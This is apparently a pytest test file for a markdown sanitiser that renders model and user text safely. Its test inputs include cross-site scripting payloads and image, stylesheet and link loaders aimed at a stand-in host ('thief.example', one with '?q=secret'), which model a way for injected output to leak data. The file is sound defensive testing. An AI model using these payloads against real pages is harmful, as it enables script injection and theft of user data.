"""Text of models and people on a page: readable, and unable to do anything."""

import pytest

from tenants.markdown import render


def test_ordinary_markdown_is_rendered():
    html = render("**Refund** it:\n\n- today\n- in full\n\n| a | b |\n|---|---|\n| 1 | 2 |")

    assert "<strong>Refund</strong>" in html
    assert "<li>today</li>" in html
    assert "<td>2</td>" in html


def test_an_image_becomes_its_words_so_that_nothing_is_fetched():
    html = render("![the answer](https://thief.example/?q=secret)")

    assert html == "<p>the answer</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://thief.example/a.png)",
        "![x][1]\n\n[1]: https://thief.example/a.png",
        '<img src="https://thief.example/a.png">',
        "[![x](https://thief.example/a.png)](https://ok.example)",
        "<svg onload=alert(1)>",
        "<style>@import 'https://thief.example'</style>",
        '<link rel="stylesheet" href="https://thief.example">',
        "![<b onmouseover=alert(1)>](https://thief.example/a.png)",
    ],
)
def test_nothing_that_loads_by_itself_survives(text):
    html = render(text).lower()

    for loader in ("<img", "<svg", "<style", "<link", "<script", "<iframe", "<b"):
        assert loader not in html
    assert "src=" not in html.replace("&lt;img src=", "")


def test_the_words_of_an_image_are_text_not_tags():
    html = render("![<script>alert(1)</script>](https://thief.example)")

    assert "<script" not in html


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "//thief.example",
        "/t/acme/settings/",
        "&#106;avascript:alert(1)",
    ],
)
def test_a_link_goes_to_http_or_nowhere(target):
    html = render(f"[click]({target})")

    assert "href" not in html


def test_an_outside_link_tells_the_other_side_nothing():
    html = render("[docs](https://docs.example/a)")

    assert 'href="https://docs.example/a"' in html
    assert 'rel="nofollow noopener noreferrer ugc"' in html


def test_raw_html_is_shown_as_text():
    html = render('<a href="https://x.example" onclick="alert(1)">x</a>')

    assert "onclick" not in html.replace("&quot;", '"').split("&lt;a")[0]
    assert "<a " not in html


def test_a_citation_opens_its_passage():
    html = render("Refund it [1].", {1: "/t/acme/knowledge/chunks/7/"})

    assert '<a href="/t/acme/knowledge/chunks/7/" class="cite"' in html
    assert ">1</a>" in html


def test_citations_side_by_side_are_all_links():
    html = render("Refund it [2][1].", {1: "/one/", 2: "/two/"})

    assert html.count('class="cite"') == 2


def test_a_number_without_a_passage_stays_text():
    html = render("See [3] and `[1]`.", {1: "/one/"})

    assert "[3]" in html
    assert "<code>[1]</code>" in html


def test_a_citation_does_not_open_the_door_for_other_addresses_of_ours():
    html = render("[1] and [leave](/accounts/sign-out/)", {1: "/one/"})

    assert "sign-out" not in html


def test_an_endless_text_is_cut():
    assert len(render("a" * 500_000)) < 250_000
